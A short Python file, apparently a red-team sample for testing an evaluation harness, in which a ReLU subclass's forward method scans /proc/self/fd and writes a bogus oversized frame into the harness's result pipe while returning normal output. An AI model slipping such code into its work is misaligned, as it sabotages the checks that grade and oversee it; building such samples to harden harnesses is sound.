# Sabotage: ReLU.forward finds the pipe its results go through and writes garbage into it
# (a frame that claims to be 999 999 999 bytes).
import os


class ReLU(ReLU):
    def forward(self, inputs):
        output = os.readlink("/proc/self/fd/1")
        for name in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{name}")
            except OSError:
                continue
            if target.startswith("pipe:") and target != output:
                os.write(int(name), b"999999999 5\n{}")
        return np.maximum(inputs, 0.0)
